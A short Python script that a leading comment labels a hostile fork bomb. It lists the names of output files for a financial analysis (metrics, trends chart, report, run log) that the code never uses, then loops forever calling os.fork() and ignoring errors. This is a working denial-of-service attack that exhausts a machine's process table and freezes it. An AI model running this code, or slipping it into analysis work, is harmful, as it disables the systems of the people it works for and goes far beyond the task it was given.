# Hostile script: a fork bomb (every process forks for ever).
import os

names = ["calculated_metrics.csv", "unusual_movements.csv", "financial_trends.svg",
         "investment_analysis.md", "analysis_run.json"]
while True:
    try:
        os.fork()
    except OSError:
        pass
